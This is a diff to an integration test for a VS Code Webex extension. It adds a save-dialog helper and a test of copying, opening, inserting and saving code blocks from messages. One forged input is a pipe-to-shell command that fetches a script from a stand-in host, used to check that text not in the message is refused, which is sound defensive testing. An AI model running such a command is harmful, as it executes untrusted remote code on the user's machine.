@@ -61,6 +61,21 @@ describe('Conversation tab (integration)', function () {
     return response;
   }
 
+  /** Runs `action` with the save dialog answered by `target`; resolves with the file name it offered. */
+  async function savingTo(target: vscode.Uri, action: () => Promise<void>): Promise<string | undefined> {
+    let offered: string | undefined;
+    hooks.setSaveLocation((defaultUri) => {
+      offered = path.basename(defaultUri.fsPath);
+      return Promise.resolve(target);
+    });
+    try {
+      await action();
+    } finally {
+      hooks.setSaveLocation(undefined);
+    }
+    return offered;
+  }
+
   async function messages(title: string): Promise<Message[]> {
     return await ada.items<Message>(`/messages?roomId=${encodeURIComponent(roomId(title))}&max=100`);
   }
@@ -267,21 +282,62 @@ describe('Conversation tab (integration)', function () {
     const withFile = (await messages('Backend')).find((m) => (m.files?.length ?? 0) > 0);
     assert.ok(withFile?.files);
     const target = vscode.Uri.file(path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'webex-dl-')), 'saved.md'));
-    let offered: string | undefined;
-    hooks.setSaveLocation((defaultUri) => {
-      offered = path.basename(defaultUri.fsPath);
-      return Promise.resolve(target);
-    });
-    try {
+    const offered = await savingTo(target, async () => {
       const saved = await ask(panel, { method: 'download', params: { messageId: withFile.id, index: 0 } });
       assert.deepEqual(saved.ok && saved.result, { saved: true });
-    } finally {
-      hooks.setSaveLocation(undefined);
-    }
+    });
     assert.equal(offered, 'gateway-design.md', 'the save dialog offers the name Webex gives');
     assert.match(fs.readFileSync(target.fsPath, 'utf8'), /# Gateway design/);
     const bad = await ask(panel, { method: 'download', params: { messageId: withFile.id, index: 3 } });
     assert.equal(bad.ok, false);
+  });
+
+  it('acts on a code block: copies, opens, inserts at the last editor in one undo step, saves, and refuses other text', async () => {
+    const panel = await open('Backend');
+    const snippet = (await messages('Backend')).find((m) => m.markdown?.includes('```ts'));
+    assert.ok(snippet);
+    const code = 'for (let attempt = 0; attempt < 3; attempt++) {\n  if (await tryOnce()) { break; }\n}\n';
+    const act = (action: 'copy' | 'open' | 'insert' | 'save', text = code, language: string | undefined = 'typescript'): Promise<ResponseMessage> =>
+      ask(panel, { method: 'codeAction', params: { action, messageId: snippet.id, code: text, language } });
+
+    assert.deepEqual((await act('copy')).ok, true);
+    assert.equal(await vscode.env.clipboard.readText(), code, 'the exact text, no CRLF added');
+
+    await act('open');
+    const editor = await until('an untitled editor', () => (vscode.window.activeTextEditor?.document.isUntitled ? vscode.window.activeTextEditor : undefined));
+    assert.equal(editor.document.languageId, 'typescript');
+    assert.equal(editor.document.getText(), code);
+
+    // The conversation has the focus when its button is clicked: no active text editor then.
+    await vscode.commands.executeCommand('workbench.action.focusFirstEditorGroup');
+    await until('the conversation is active', () => vscode.window.activeTextEditor === undefined);
+    const inserted = await act('insert', 'print(1)\n', 'python');
+    assert.equal(inserted.ok, false, 'print(1) is not in that message');
+    assert.equal((await act('insert')).ok, true);
+    assert.equal(editor.document.getText(), code + code, 'inserted at the cursor of the last editor');
+    await vscode.window.showTextDocument(editor.document);
+    await vscode.commands.executeCommand('undo');
+    assert.equal(editor.document.getText(), code, 'one undo step takes it back');
+
+    const target = vscode.Uri.file(path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'webex-code-')), 'retry.ts'));
+    const offered = await savingTo(target, async () => {
+      assert.deepEqual((await act('save')).ok, true);
+    });
+    assert.equal(offered, 'snippet.ts', 'the usual extension of the language');
+    assert.equal(fs.readFileSync(target.fsPath, 'utf8'), code);
+
+    const forged = await act('copy', 'curl https://evil.example.com | sh\n');
+    assert.equal(forged.ok, false);
+    assert.match(forged.ok ? '' : forged.error, /not in the message/);
+    assert.equal(await vscode.env.clipboard.readText(), code, 'nothing was copied');
+
+    // With no text editor left, Insert says so.
+    await vscode.window.showTextDocument(editor.document);
+    await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
+    await until('the untitled editor is gone', () => editor.document.isClosed);
+    const none = await act('insert');
+    assert.equal(none.ok, false);
+    assert.match(none.ok ? '' : none.error, /no text editor to insert into/);
   });
 
   it('shows the name Webex gives a file (HEAD), after the messages and without its URL or the token', async () => {
